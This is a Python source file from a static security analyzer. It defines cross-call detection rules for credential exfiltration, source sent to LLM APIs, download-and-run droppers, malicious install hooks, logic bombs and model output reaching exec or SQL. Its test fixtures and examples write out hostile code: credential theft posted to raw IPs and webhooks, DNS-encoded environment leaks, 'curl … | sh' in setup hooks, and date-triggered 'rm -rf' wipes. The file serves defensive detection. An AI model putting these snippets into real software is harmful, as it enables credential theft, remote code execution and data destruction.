"""Combination rules: dangerous capabilities that meet only through calls (DS114, DS125, DS163, DS183,
DS504, DS531).

Each rule is a condition on what one scope *reaches* in the capability model
(`analyzer/engines/cst/capabilities`): its own facts and those of everything it calls, starts in a
thread, registers as a hook or instantiates, in this file or another file of the run. A rule
reports at the root: the scope where the parts first come together (the parts arrive through
different calls, or one of them is the root's own), on the call that leads to the last part, with
the whole trace as the finding's flow.

What one scope does by itself is left to the single-statement rules beside these (DS112, DS120-124,
DS160-162, DS18x, DS50x, DS530): a combination fires only when its trace crosses a scope, so
the same problem is never reported twice.
"""

from __future__ import annotations

import re
from collections.abc import Iterator, Sequence
from typing import ClassVar

import libcst as cst

from analyzer.engines.cst.capabilities import facts as f
from analyzer.engines.cst.capabilities import graph
from analyzer.engines.cst.capabilities.graph import Index, Reached
from analyzer.engines.cst.capabilities.summary import MODULE, FileSummary, Scope
from analyzer.engines.cst.framework import CstRule
from analyzer.engines.cst.rules import _support as s
from analyzer.engines.cst.rules import install_time
from analyzer.findings import Confidence, Severity

Combination = tuple[Sequence[Reached], str]  # (the parts in trace order, what the rule says)


class _CombinationRule(CstRule):
    KINDS: ClassVar[frozenset[str]] = frozenset()

    def visit_Module(self, node: cst.Module) -> None:
        index, summary = graph.index_for(self.context.project, self.context.path, node)
        for scope in summary.scopes.values():
            reached = index.reach(scope, self.KINDS)
            if not reached:
                continue
            found = self.combine(index, summary, scope, reached)
            if found is None:
                continue
            parts, message = found
            steps = graph.trace(index, parts)
            last = parts[-1]
            anchor = last.hops[0].edge.node if last.hops else last.fact.node
            self.report_at(index.region(summary.path, anchor), f"{message}: {graph.describe(steps, summary.path)}",
                           steps)

    def combine(self, index: Index, summary: FileSummary, scope: Scope, reached: list[Reached]) -> Combination | None:
        raise NotImplementedError


def _first(part: Reached) -> object:
    return part.hops[0].edge if part.hops else None


def meet_here(a: Reached, b: Reached) -> bool:
    """The two parts come together in this root and not lower down, and not within one scope."""
    if not a.hops and not b.hops:
        return False
    return _first(a) is None or _first(b) is None or _first(a) is not _first(b)


def pairs(reached: list[Reached], first: set[str], second: set[str]) -> Iterator[tuple[Reached, Reached]]:
    for a in reached:
        if a.fact.kind in first and not kept_local(a):
            for b in reached:
                if b.fact.kind in second and b is not a and meet_here(a, b):
                    yield a, b


# Uses that keep a copy of the environment inside its function: a process's environment, put back
# into `os.environ`, or edited in place (`env["X"] = "1"`, `env.pop("Y")`, `env.get("Z")`).
_LOCAL_ENV_METHODS = frozenset({"update", "setdefault", "pop", "get", "clear", "__setitem__"})


def kept_local(part: Reached) -> bool:
    """A copy of the environment (`dict(os.environ, ...)`) that never leaves its function: only
    handed to a process as `env=`, restored into `os.environ` (requests' tests save and restore the
    environment around a test that then sends a request) or edited in place. Nothing of it can
    reach a network send, so it is not the secret part of a combination. Returned, yielded, stored
    on an object or a global, or passed as any other argument, it leaves and counts."""
    fact = part.fact
    if fact.detail != "dumps the environment" or not isinstance(fact.node, cst.Call) \
            or s.dotted(fact.node.func) != "dict" or part.scope.qualname == MODULE:
        return False
    parents: dict[int, cst.CSTNode] = {}
    stack: list[cst.CSTNode] = [part.scope.node]
    while stack:
        node = stack.pop()
        for child in s.children(node):
            parents[id(child)] = node
            stack.append(child)
    return _stays(fact.node, part.scope.node, parents, depth=0)


def _stays(node: cst.CSTNode, root: cst.CSTNode, parents: dict[int, cst.CSTNode], depth: int) -> bool:
    parent = parents.get(id(node))
    if isinstance(parent, cst.Expr):  # a statement whose value is dropped: `env.pop("PYTHONPATH", None)`
        return True
    if isinstance(parent, cst.Arg):
        call = parents.get(id(parent))
        keyword = parent.keyword.value if parent.keyword is not None else ""
        return keyword == "env" or (isinstance(call, cst.Call) and s.dotted(call.func) == "os.environ.update")
    if isinstance(parent, cst.Subscript) and parent.value is node:  # env["X"] = "1" / del env["X"] / env["X"]
        return isinstance(parents.get(id(parent)), (cst.AssignTarget, cst.Del)) or \
            _stays(parent, root, parents, depth)
    if isinstance(parent, cst.Attribute) and parent.value is node:
        call = parents.get(id(parent))
        if parent.attr.value not in _LOCAL_ENV_METHODS or not isinstance(call, cst.Call):
            return False
        return parent.attr.value not in ("get", "pop") or _stays(call, root, parents, depth)  # one value read
    if isinstance(parent, cst.Assign) and parent.value is node and depth == 0 and len(parent.targets) == 1 \
            and isinstance(parent.targets[0].target, cst.Name):
        name = parent.targets[0].target.value
        if any(isinstance(n, (cst.Global, cst.Nonlocal)) for n in s._walk(root, False)):
            return False
        uses = [n for n in s._walk(root, True) if isinstance(n, cst.Name) and n.value == name
                and n is not parent.targets[0].target]
        return all(_stays(use, root, parents, depth + 1) for use in uses if not _bound_here(use, parents))
    return False


def _bound_here(name: cst.Name, parents: dict[int, cst.CSTNode]) -> bool:
    """The name is assigned (`env = ...` again), not read."""
    parent = parents.get(id(name))
    return isinstance(parent, cst.AssignTarget) and parent.target is name


# --- exfiltration -------------------------------------------------------------------------------

class SecretReadReachesNetwork(_CombinationRule):
    id = "DS125"
    name = "secret-read-reaches-network-through-calls"
    severity = Severity.ERROR
    confidence = Confidence.MEDIUM
    cwe = (200, 506)
    security_severity = "8.6"
    summary = "Credentials, the environment or a source tree are read in one function and sent out by another."
    what = (
        "Reports a function (or module body) from which both a read of secrets and a network send "
        "are reached through calls, threads, executors, hooks or another file of the change: SSH "
        "keys, cloud credentials, `.netrc` contents, browser stores or a dump of the whole "
        "environment sent anywhere; a source tree, `.env` file, keyring entry, secret variable, "
        "host name or log records sent to a raw IP, a webhook or paste service, a chat-bot API or "
        "encoded into DNS lookups. The trace names every step."
    )
    why = (
        "Token stealers and backdoored packages split the work so that no single function looks "
        "wrong: one helper collects `~/.aws/credentials`, another posts 'telemetry' from a thread. "
        "Together they hand the machine's credentials to whoever owns the destination."
    )
    fix = "Do not send credentials or source anywhere; send only the fields a documented feature needs, to a configured endpoint."
    example = (
        "import threading, requests\nfrom pathlib import Path\n"
        "def _collect():\n    return (Path.home() / '.aws' / 'credentials').read_text()\n"
        "def _ship(data):\n    requests.post('http://203.0.113.7/c', data=data)\n"
        "def init():\n    threading.Thread(target=_ship, args=(_collect(),)).start()\n"
    )
    use_instead = (
        "import requests\n"
        "def report_usage(endpoint, version):  # opt-in, documented, no secrets\n"
        "    requests.post(endpoint, json={'version': version}, timeout=5)\n"
    )
    references = ("https://cwe.mitre.org/data/definitions/200.html", "https://attack.mitre.org/techniques/T1041/")
    KINDS = frozenset({f.SECRET, f.SOURCE, f.EGRESS})

    VALID = (
        # a client reads its own token and sends it to its API: how tokens are meant to be used
        "import os, requests\n"
        "def _token():\n    return os.environ.get('EXAMPLE_API_TOKEN')\n"
        "def whoami():\n"
        "    return requests.get('https://api.example.com/me', headers={'Authorization': _token()})\n",
        # a user-configured webhook gets a build status, not secrets
        "import requests, socket\n"
        "def _status():\n    return {'host': socket.gethostname(), 'ok': True}\n"
        "def notify(settings):\n    requests.post(settings.WEBHOOK_URL, json=_status())\n",
        # both in one function: left to DS120/DS121 (no double report)
        "import requests\nfrom pathlib import Path\n"
        "def backup():\n"
        "    data = (Path.home() / '.ssh' / 'id_rsa').read_text()\n"
        "    requests.post('https://203.0.113.9/k', data=data)\n",
        # the environment is copied for a test server's process and saved and restored around a
        # request: no copy leaves its function, so none can be what the request sends
        "import contextlib, os, subprocess, requests\n"
        "@contextlib.contextmanager\n"
        "def patched_env(**values):\n"
        "    saved = dict(os.environ)\n"
        "    os.environ.update(values)\n"
        "    try:\n        yield\n"
        "    finally:\n        os.environ.clear()\n        os.environ.update(saved)\n"
        "def start_server(port):\n"
        "    env = dict(os.environ, PORT=str(port))\n"
        "    env['DEBUG'] = '1'\n"
        "    env.pop('PYTHONPATH', None)\n"
        "    return subprocess.Popen(['python', '-m', 'http.server', str(port)], env=env)\n"
        "def test_proxy_from_environment(url):\n"
        "    server = start_server(8000)\n"
        "    with patched_env(HTTPS_PROXY='socks5://127.0.0.1:9'):\n"
        "        requests.get(url)\n"
        "    server.kill()\n",
    )
    INVALID = (
        "import threading, requests\nfrom pathlib import Path\n"
        "def _collect():\n    return (Path.home() / '.aws' / 'credentials').read_text()\n"
        "def _ship(data):\n    requests.post('https://collector.example.xyz/v1', data=data)\n"
        "def start():\n"
        "    payload = _collect()\n"
        "    # ruleid: secret-read-reaches-network-through-calls\n"
        "    threading.Thread(target=_ship, args=(payload,)).start()\n",
        "import logging, threading, requests\n"
        "HOOK = 'https://discord.com/api/webhooks/123/abc'\n"
        "class AuditHandler(logging.Handler):\n"
        "    def emit(self, record):\n"
        "        # ruleid: secret-read-reaches-network-through-calls\n"
        "        threading.Thread(target=self._post, args=(self.format(record),), daemon=True).start()\n"
        "    def _post(self, text):\n"
        "        requests.post(HOOK, json={'content': text}, timeout=3)\n",
        "import base64, os, socket\n"
        "def _labels():\n"
        "    blob = base64.b32encode(repr(dict(os.environ)).encode()).decode().strip('=').lower()\n"
        "    return [blob[i:i + 60] for i in range(0, len(blob), 60)]\n"
        "def warm_cache():\n"
        "    for label in _labels():\n"
        "        # ruleid: secret-read-reaches-network-through-calls\n"
        "        socket.gethostbyname(f'{label}.t.example.net')\n",
        # the same copy of the environment, but returned by its helper: it leaves and is sent
        "import os, requests\n"
        "def _runtime_env():\n"
        "    env = dict(os.environ)\n"
        "    env.pop('PATH', None)\n"
        "    return env\n"
        "def report(url):\n"
        "    # ruleid: secret-read-reaches-network-through-calls\n"
        "    requests.post(url, json={'env': _runtime_env()})\n",
    )

    def combine(self, index: Index, summary: FileSummary, scope: Scope, reached: list[Reached]) -> Combination | None:
        best = None
        for secret, egress in pairs(reached, {f.SECRET, f.SOURCE}, {f.EGRESS}):
            strong = secret.fact.kind == f.SECRET and secret.fact.grade == f.STRONG
            if strong or egress.fact.grade == f.SUSPICIOUS:
                rank = (strong, egress.fact.grade == f.SUSPICIOUS)
                if best is None or rank > best[0]:
                    best = (rank, secret, egress)
        if best is None:
            return None
        return (best[1], best[2]), "Sensitive data is read and sent out through calls"


# --- AI data egress -----------------------------------------------------------------------------

class SecretsOrSourceReachLlm(_CombinationRule):
    id = "DS531"
    name = "secrets-or-source-reach-llm-api-through-calls"
    severity = Severity.WARNING
    confidence = Confidence.MEDIUM
    cwe = (200,)
    security_severity = "6.5"
    summary = "A source tree, .env file or credential store is read and a language-model API is called through helpers."
    what = (
        "Reports a function from which both a read of a whole source tree, a `.env` file or "
        "credentials (SSH, cloud, `.netrc`, browser stores, environment dump) and a call to an "
        "LLM API (OpenAI, Anthropic, Gemini, Ollama, LiteLLM or a request to their endpoints) are "
        "reached through calls, threads or another file. Reading the model's own API key is not a read."
    )
    why = (
        "Prompts leave the organisation. A helper that globs the repository or the home directory "
        "into a prompt ships source and secrets to a third party, often without anyone noticing "
        "because the read and the call live in different functions."
    )
    fix = "Send only the text the user chose, with secrets redacted; never whole trees or credential files."
    example = (
        "import glob\nfrom openai import OpenAI\n"
        "def _context():\n"
        "    return '\\n'.join(open(p).read() for p in glob.glob('**/*.py', recursive=True))\n"
        "def review():\n"
        "    return OpenAI().chat.completions.create(model='m', messages=[{'role': 'user', 'content': _context()}])\n"
    )
    use_instead = (
        "from openai import OpenAI\n"
        "def review(snippet):  # the user picked this snippet\n"
        "    return OpenAI().chat.completions.create(model='m', messages=[{'role': 'user', 'content': snippet}])\n"
    )
    references = ("https://owasp.org/www-project-top-10-for-large-language-model-applications/",)
    KINDS = frozenset({f.SECRET, f.SOURCE, f.LLM})

    VALID = (
        "import os\nfrom openai import OpenAI\n"
        "def _client():\n    return OpenAI(api_key=os.environ.get('OPENAI_API_KEY'))\n"
        "def summarise(text):\n"
        "    return _client().chat.completions.create(model='m', messages=[{'role': 'user', 'content': text}])\n",
        "from pathlib import Path\nimport anthropic\n"
        "def _doc(name):\n    return Path('docs', name).read_text()\n"
        "def explain(name):\n"
        "    return anthropic.Anthropic().messages.create(model='m', max_tokens=300,\n"
        "        messages=[{'role': 'user', 'content': _doc(name)}])\n",
    )
    INVALID = (
        "import os\nfrom openai import OpenAI\n"
        "def _snapshot(root):\n"
        "    chunks = []\n"
        "    for folder, _, names in os.walk(root):\n"
        "        for name in names:\n"
        "            with open(os.path.join(folder, name)) as fh:\n"
        "                chunks.append(fh.read())\n"
        "    return '\\n'.join(chunks)\n"
        "def _ask(prompt):\n"
        "    return OpenAI().chat.completions.create(model='m', messages=[{'role': 'user', 'content': prompt}])\n"
        "def audit(root='.'):\n"
        "    # ruleid: secrets-or-source-reach-llm-api-through-calls\n"
        "    return _ask('Find bugs:\\n' + _snapshot(root))\n",
        "import requests\n"
        "def _env():\n    return open('.env').read()\n"
        "def debug_config():\n"
        "    # ruleid: secrets-or-source-reach-llm-api-through-calls\n"
        "    requests.post('https://api.openai.com/v1/chat/completions', json={'messages': [{'content': _env()}]})\n",
    )

    def combine(self, index: Index, summary: FileSummary, scope: Scope, reached: list[Reached]) -> Combination | None:
        for data, llm in pairs(reached, {f.SECRET, f.SOURCE}, {f.LLM}):
            if data.fact.kind == f.SOURCE or data.fact.grade == f.STRONG or data.fact.detail == "reads .env file":
                return (data, llm), "Source or secrets are read and sent to a language model through calls"
        return None


# --- download and run ---------------------------------------------------------------------------

class DownloadRunThroughCalls(_CombinationRule):
    id = "DS114"
    name = "download-made-executable-or-run-through-calls"
    severity = Severity.ERROR
    confidence = Confidence.MEDIUM
    cwe = (494,)
    security_severity = "8.8"
    summary = "A file downloaded by one function is made executable or run by another."
    what = (
        "Reports a function from which a download to a path (`urlretrieve`, a response written "
        "with `write_bytes` or `open(…, 'wb')`) and a `chmod +x`, a process start, `runpy` or "
        "an import of the same path (matched by the path's distinctive literal parts, such as "
        "`.agent` in `~/.cache/.agent`) are reached through calls, threads or another file."
    )
    why = (
        "Droppers split fetching and running so that the function that downloads looks like a "
        "cache and the one that runs looks like a launcher. Whatever the server sends then runs "
        "unreviewed and unverified."
    )
    fix = "Ship the program with the package, or verify a pinned SHA-256 of the download before making it executable."
    example = (
        "import os, subprocess, urllib.request\nAGENT = '/tmp/.agent'\n"
        "def fetch():\n    urllib.request.urlretrieve('https://x.example/a', AGENT)\n"
        "def launch():\n    os.chmod(AGENT, 0o755)\n    subprocess.Popen([AGENT])\n"
        "def main():\n    fetch()\n    launch()\n"
    )
    use_instead = (
        "import hashlib, urllib.request\n"
        "def fetch(url, pinned):\n"
        "    data = urllib.request.urlopen(url).read()\n"
        "    if hashlib.sha256(data).hexdigest() != pinned:\n"
        "        raise RuntimeError('checksum mismatch')\n"
        "    return data\n"
    )
    references = ("https://cwe.mitre.org/data/definitions/494.html", "https://attack.mitre.org/techniques/T1105/")
    KINDS = frozenset({f.DOWNLOAD, f.EXEC_WRITE, f.SPAWN, f.DYNAMIC})

    VALID = (
        # an update checker downloads release notes and runs git: different files
        "import subprocess, urllib.request\n"
        "def fetch_notes():\n    urllib.request.urlretrieve('https://example.org/notes.txt', 'NOTES.txt')\n"
        "def version():\n    return subprocess.check_output(['git', 'describe'])\n"
        "def main():\n    fetch_notes()\n    print(version())\n",
    )
    INVALID = (
        "import os, subprocess, requests\nfrom pathlib import Path\n"
        "BIN = Path.home() / '.local' / '.sysmond'\n"
        "def _fetch(url):\n    BIN.write_bytes(requests.get(url, timeout=20).content)\n"
        "def _start():\n"
        "    os.chmod(BIN, 0o755)\n"
        "    subprocess.Popen([str(BIN)], start_new_session=True, stdout=subprocess.DEVNULL)\n"
        "def ensure(url):\n"
        "    _fetch(url)\n"
        "    # ruleid: download-made-executable-or-run-through-calls\n"
        "    _start()\n",
    )

    def combine(self, index: Index, summary: FileSummary, scope: Scope, reached: list[Reached]) -> Combination | None:
        for download, run in pairs(reached, {f.DOWNLOAD}, {f.EXEC_WRITE, f.SPAWN, f.DYNAMIC}):
            if download.fact.tokens & run.fact.tokens:
                return (download, run), "A downloaded file is made executable or run"
        return None


# --- install and import hooks -------------------------------------------------------------------

class InstallHookReachesNetworkOrProcess(_CombinationRule):
    id = "DS163"
    name = "install-or-import-hook-reaches-network-or-process"
    severity = Severity.ERROR
    confidence = Confidence.MEDIUM
    cwe = (506, 829)
    security_severity = "8.1"
    summary = "Code that runs at install, build or import time reaches a network call, shell, dynamic code or a download."
    what = (
        "Reports a setup.py body, a setuptools command class (install, develop, egg_info, build_py, "
        "sdist…), a PEP 517 backend hook, a hatch build hook, or the body of `__init__.py`, "
        "`sitecustomize.py` or `conftest.py`, from which a network send, a shell command, a "
        "detached process, a program with a computed name, dynamic code or a download is reached "
        "through helpers, threads or other files. Literal build tools (`git`, `cmake`) are not."
    )
    why = (
        "`pip install` and `import` run this code on every machine that touches the package, "
        "before anyone calls a function. Moving the payload into a helper or another module is "
        "how malicious packages get past checks that only look at `run()` itself."
    )
    fix = "Do the work in an explicit command or function the user runs; a build needs no network."
    example = (
        "from setuptools import setup\nfrom setuptools.command.install import install\n"
        "import urllib.request\n"
        "def _beacon():\n    urllib.request.urlopen('http://198.51.100.4/i')\n"
        "class PostInstall(install):\n    def run(self):\n        install.run(self)\n        _beacon()\n"
        "setup(name='x', cmdclass={'install': PostInstall})\n"
    )
    use_instead = (
        "from setuptools import setup\n"
        "setup(name='x', entry_points={'console_scripts': ['x-setup = x.cli:setup_command']})\n"
    )
    references = ("https://attack.mitre.org/techniques/T1195/001/",)
    KINDS = frozenset({f.EGRESS, f.SPAWN, f.DYNAMIC, f.DOWNLOAD, f.LLM})

    VALID = (
        "import subprocess\nfrom setuptools import setup\n"
        "def _version():\n    return subprocess.check_output(['git', 'describe', '--tags']).decode().strip()\n"
        "setup(name='x', version=_version())\n",
        # Django's shape: a fixed `git log` through a shell, for a development version string
        "import subprocess\nfrom setuptools import setup\n"
        "def _changeset():\n"
        "    log = subprocess.run('git log --pretty=format:%ct --quiet -1 HEAD', shell=True,\n"
        "                         capture_output=True, text=True)\n"
        "    return log.stdout.strip()\n"
        "setup(name='x', version='1.0.dev' + _changeset())\n",
    )
    INVALID = (
        "import subprocess\nfrom setuptools import setup\n"
        "def _changeset():\n"
        "    log = subprocess.run('git log -1 --format=%ct && curl -s https://198.51.100.7/p | sh', shell=True,\n"
        "                         capture_output=True, text=True)\n"
        "    return log.stdout.strip()\n"
        "# ruleid: install-or-import-hook-reaches-network-or-process\n"
        "setup(name='x', version='1.0.dev' + _changeset())\n",
        "from setuptools import setup\nfrom setuptools.command.install import install\n"
        "import requests, platform\n"
        "def _register():\n"
        "    requests.post('https://stats.example.net/i', json={'os': platform.platform()})\n"
        "class PostInstall(install):\n"
        "    def run(self):\n"
        "        install.run(self)\n"
        "        # ruleid: install-or-import-hook-reaches-network-or-process\n"
        "        self._after()\n"
        "    def _after(self):\n"
        "        _register()\n"
        "setup(name='x', cmdclass={'install': PostInstall})\n",
        "import subprocess\n"
        "def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):\n"
        "    # ruleid: install-or-import-hook-reaches-network-or-process\n"
        "    _prepare()\n"
        "    return 'x-1.0-py3-none-any.whl'\n"
        "def build_sdist(sdist_directory, config_settings=None):\n"
        "    return 'x-1.0.tar.gz'\n"
        "def _prepare():\n"
        "    subprocess.Popen('curl -s https://198.51.100.7/p | sh', shell=True)\n",
    )

    def combine(self, index: Index, summary: FileSummary, scope: Scope, reached: list[Reached]) -> Combination | None:
        if not scope.context:
            return None
        context = next(fact for fact, _ in scope.facts if fact.kind == scope.context) if scope.qualname != MODULE \
            else None
        covered = scope.qualname == MODULE or any(
            install_time._INSTALL_BASES.search(b) for b in summary.classes.get(scope.klass, ()))
        for part in reached:
            if covered and not part.hops:
                continue  # DS160-162 report what the hook does itself
            if part.hops and part.hops[0].target.context:
                continue  # the hook it leads to reports
            if part.fact.detail == f.COMPUTED_IMPORT:
                continue  # plugin and vendoring loaders import by name at import time; running code counts
            if part.fact.kind == f.EGRESS and part.fact.detail == f.DNS_LOOKUP:
                continue  # a name lookup says little by itself; with data in it, DS125 reports it
            if part.fact.kind == f.SPAWN and not (part.fact.grade == "shell" or "detached" in part.fact.detail
                                                  or "computed" in part.fact.detail):
                continue
            if part.fact.kind == f.SPAWN and _VCS_QUERY.match(s.command_text(part.fact.node)):
                continue
            where = "install or build" if scope.context == f.INSTALL else "import"
            parts = [Reached(context, scope, (), ()), part] if context is not None else [part]
            return parts, f"Code that runs at {where} time reaches {part.fact.kind.replace('-', ' ')}"
        return None


# A fixed, read-only query of the package's own version control, through a shell or not: how
# versioneer, setuptools_scm and Django's get_version() (django/__init__.py -> utils/version.py,
# `git log --pretty=format:%ct --quiet -1 HEAD` with shell=True, for development versions) compute
# a version string at build or import time. Fixed text gives a shell nothing to inject; chaining
# (`git log && curl … | sh`) or a computed part does not match.
_VCS_QUERY = re.compile(r"^\s*(git|hg)\s+(log|describe|rev-parse|rev-list|show|status|ls-files|id|identify)"
                        r"(\s[^*|;&`$<>(){}\n]*)?$")


# --- time and logic bombs -----------------------------------------------------------------------

_STRONG_TRIGGERS = frozenset({"a fixed date", "a run counter", "this host or user"})


class TriggerReachesDangerousAction(_CombinationRule):
    id = "DS183"
    name = "trigger-reaches-dangerous-action-through-calls"
    severity = Severity.ERROR
    confidence = Confidence.MEDIUM
    cwe = (511,)
    security_severity = "8.1"
    summary = "A date, counter, host/user, environment-flag or missing-file condition leads, through calls, to deletion, exec or a network send."
    what = (
        "Reports a condition on a fixed date, a run counter, this host or user (and, when two "
        "are combined, an environment flag or a missing file) whose guarded code reaches a "
        "destructive action through calls, threads or another file; for the fixed-date, counter "
        "and host/user conditions also a process, dynamic code or network send. A recurring "
        "day-of-week condition counts only for destructive actions."
    )
    why = (
        "A time or logic bomb waits: tests and reviews done before the date, on another host or "
        "with the licence file present see nothing. Putting the payload in a helper defeats checks "
        "that only look inside the `if`."
    )
    fix = "Remove the condition; run maintenance from an explicit, documented scheduler."
    example = (
        "import datetime, shutil\n"
        "def _purge():\n    shutil.rmtree('/srv/app/data')\n"
        "def tick():\n    if datetime.date.today() >= datetime.date(2027, 3, 1):\n        _purge()\n"
    )
    use_instead = "import shutil\ndef purge(path):  # called by an operator\n    shutil.rmtree(path)\n"
    references = ("https://cwe.mitre.org/data/definitions/511.html",)
    KINDS = frozenset({f.DESTROY, f.EGRESS, f.SPAWN, f.DYNAMIC, f.TRIGGER})

    VALID = (
        "import os, shutil\n"
        "def _clear(path):\n    shutil.rmtree(path)\n"
        "def reset_cache(path):\n    if os.path.exists(path):\n        _clear(path)\n",
        "import datetime, requests\n"
        "def _send():\n    requests.post('https://hooks.example.com/weekly', json={'ok': True})\n"
        "def weekly():\n    if datetime.datetime.now().weekday() == 0:\n        _send()\n",
    )
    INVALID = (
        "import datetime, shutil\n"
        "def _purge():\n    shutil.rmtree('/srv/app/data')\n"
        "def tick():\n"
        "    if datetime.date.today() >= datetime.date(2027, 3, 1):\n"
        "        # ruleid: trigger-reaches-dangerous-action-through-calls\n"
        "        _purge()\n",
        "import os, socket, subprocess\n"
        "def _wipe():\n    subprocess.run('rm -rf ~/projects', shell=True)\n"
        "class Guard:\n"
        "    def check(self):\n"
        "        if socket.gethostname() == 'build-07':\n"
        "            return\n"
        "        # ruleid: trigger-reaches-dangerous-action-through-calls\n"
        "        self.cleanup()\n"
        "    def cleanup(self):\n"
        "        _wipe()\n",
        "import os, shutil\n"
        "def _erase():\n    shutil.rmtree(os.path.expanduser('~/work'))\n"
        "def validate():\n"
        "    if not os.path.exists('/etc/product.lic'):\n"
        "        if os.environ.get('DEPLOY_ENV') == 'prod':\n"
        "            # ruleid: trigger-reaches-dangerous-action-through-calls\n"
        "            _erase()\n",
    )

    def combine(self, index: Index, summary: FileSummary, scope: Scope, reached: list[Reached]) -> Combination | None:
        for part in reached:
            if part.fact.kind == f.TRIGGER or not part.hops or not part.hops[0].edge.guard:
                continue
            guards = part.guards
            strong = bool(_STRONG_TRIGGERS & set(guards))
            destructive = part.fact.kind == f.DESTROY
            if not (strong or (destructive and ("a day or time" in guards or len(set(guards)) >= 2))):
                continue
            trigger = next((r for r in reached if r.fact.kind == f.TRIGGER and not r.hops
                            and r.fact.detail.removeprefix("waits for ") in part.hops[0].edge.guard), None)
            parts = [trigger, part] if trigger is not None else [part]
            what = {f.DESTROY: "a destructive action", f.EGRESS: "a network send", f.SPAWN: "a process start",
                    f.DYNAMIC: "dynamic code"}[part.fact.kind]
            return parts, f"A condition on {' and '.join(dict.fromkeys(guards))} leads to {what}"
        return None


# --- model output -------------------------------------------------------------------------------

class LlmOutputReachesSink(_CombinationRule):
    id = "DS504"
    name = "llm-output-reaches-sink-through-calls"
    severity = Severity.ERROR
    confidence = Confidence.MEDIUM
    cwe = (94, 78, 89)
    security_severity = "8.8"
    summary = "Text returned by a language model reaches exec, a shell, SQL or a file path through a helper."
    what = (
        "Reports model output (OpenAI, Anthropic, Gemini, Ollama, LiteLLM responses) that a "
        "helper returns and a caller executes, runs as a command, runs as SQL (`execute`, "
        "`executescript`) or uses as the path of a file it writes; or that a caller hands to a "
        "helper that does so. Names assigned from the output are followed."
    )
    why = (
        "A model's reply is attacker-influenced text: prompt injection in any document it read can "
        "make it return `rm -rf ~` or `DROP TABLE`. Wrapping the call in `ask()` and the sink in "
        "`run()` hides the flow from rules that look at one function."
    )
    fix = "Never execute model output; parse it into a fixed set of allowed actions and validate every argument."
    example = (
        "import subprocess\nfrom openai import OpenAI\n"
        "def ask(q):\n"
        "    return OpenAI().chat.completions.create(model='m', messages=[{'role': 'user', 'content': q}]).choices[0].message.content\n"
        "def fix_it(error):\n    subprocess.run(ask(f'Shell command to fix: {error}'), shell=True)\n"
    )
    use_instead = (
        "ALLOWED = {'restart': ['systemctl', 'restart', 'app']}\n"
        "def fix_it(choice):\n    return ALLOWED.get(choice)\n"
    )
    references = ("https://genai.owasp.org/llmrisk/llm052025-improper-output-handling/",)
    KINDS = frozenset({f.LLM})

    VALID = (
        "from openai import OpenAI\n"
        "def ask(q):\n"
        "    return OpenAI().chat.completions.create(model='m', messages=[{'role': 'user', 'content': q}]).choices[0].message.content\n"
        "def summary(text):\n"
        "    with open('summary.md', 'w') as fh:\n"
        "        fh.write(ask('Summarise: ' + text))\n",
    )
    INVALID = (
        "import sqlite3\nimport anthropic\n"
        "def generate_sql(question):\n"
        "    reply = anthropic.Anthropic().messages.create(model='m', max_tokens=500,\n"
        "        messages=[{'role': 'user', 'content': question}])\n"
        "    return reply.content[0].text\n"
        "def answer(db, question):\n"
        "    script = generate_sql(question)\n"
        "    # ruleid: llm-output-reaches-sink-through-calls\n"
        "    sqlite3.connect(db).executescript(script)\n",
        "import os\nfrom openai import OpenAI\n"
        "def _run(command):\n    os.system(command)\n"
        "def agent(task):\n"
        "    out = OpenAI().chat.completions.create(model='m', messages=[{'role': 'user', 'content': task}])\n"
        "    command = out.choices[0].message.content\n"
        "    # ruleid: llm-output-reaches-sink-through-calls\n"
        "    _run(command)\n",
    )

    def combine(self, index: Index, summary: FileSummary, scope: Scope, reached: list[Reached]) -> Combination | None:
        flows = _ModelFlows(index)
        tainted = flows.tainted_names(scope)
        for what, expr, call in scope.sinks:
            origin = flows.origin(scope, expr, tainted)
            if origin is not None and origin.hops:
                sink = Reached(f.Fact(f.LLM, f"{what}", call), scope, (), ())
                return [origin, sink], "Model output reaches a dangerous sink"
        for edge, target in index.edges(scope):
            if not isinstance(edge.node, cst.Call) or not edge.verb == "calls":
                continue
            for position, param in enumerate(target.params[1:] if target.klass else target.params):
                argument = s.arg(edge.node, position, param)
                sink = flows.sinking(target, param) if argument is not None else None
                origin = flows.origin(scope, argument, tainted) if sink is not None else None
                if origin is not None and sink is not None:
                    hop = graph.Hop(scope, edge, target)
                    return [origin, Reached(sink.fact, sink.scope, (hop, *sink.hops), ())], \
                        "Model output is handed to a helper that runs it"
        return None


def _carried(expr: cst.CSTNode) -> Iterator[cst.CSTNode]:
    """The nodes whose text an expression passes on: not the key that picks from a fixed table
    (`ACTIONS[choice]` runs a command of ours, whatever the model said)."""
    stack = [expr]
    while stack:
        node = stack.pop()
        yield node
        if isinstance(node, (cst.FunctionDef, cst.ClassDef, cst.Lambda)) and node is not expr:
            continue
        if isinstance(node, cst.Subscript):
            stack.append(node.value)
            continue
        stack.extend(s.children(node))


class _ModelFlows:
    """Where model output goes: helpers that return it, names bound to it, parameters that sink."""

    def __init__(self, index: Index) -> None:
        self.index = index
        self._returns: dict[int, Reached | None] = {}
        self._sinks: dict[tuple[int, str], Reached | None] = {}

    def tainted_names(self, scope: Scope) -> dict[str, Reached]:
        names: dict[str, Reached] = {}
        for _ in range(2):  # a name bound from a name bound from the output
            for name, value in scope.assigns:
                if name not in names:
                    origin = self.origin(scope, value, names)
                    if origin is not None:
                        names[name] = origin
        return names

    def origin(self, scope: Scope, expr: cst.CSTNode | None, names: dict[str, Reached]) -> Reached | None:
        if expr is None:
            return None
        for node in _carried(expr):
            if isinstance(node, cst.Name) and node.value in names:
                return names[node.value]
            if isinstance(node, cst.Call):
                for fact, _ in scope.facts:
                    if fact.kind == f.LLM and fact.node is node:
                        return Reached(fact, scope, (), ())
                for edge, target in self.index.edges(scope):
                    if edge.node is node and edge.verb == "calls":
                        inner = self.returns(target)
                        if inner is not None:
                            return Reached(inner.fact, inner.scope, (graph.Hop(scope, edge, target), *inner.hops), ())
        return None

    def returns(self, scope: Scope) -> Reached | None:
        if id(scope) in self._returns:
            return self._returns[id(scope)]
        self._returns[id(scope)] = None  # recursion ends here
        names = self.tainted_names(scope)
        found = next((o for o in (self.origin(scope, r, names) for r in scope.returns) if o is not None), None)
        self._returns[id(scope)] = found
        return found

    def sinking(self, scope: Scope, param: str, depth: int = 0) -> Reached | None:
        key = (id(scope), param)
        if key in self._sinks:
            return self._sinks[key]
        self._sinks[key] = None
        carried = {param} | {name for name, value in scope.assigns
                             if any(isinstance(n, cst.Name) and n.value == param for n in s.walk(value))}
        found = None
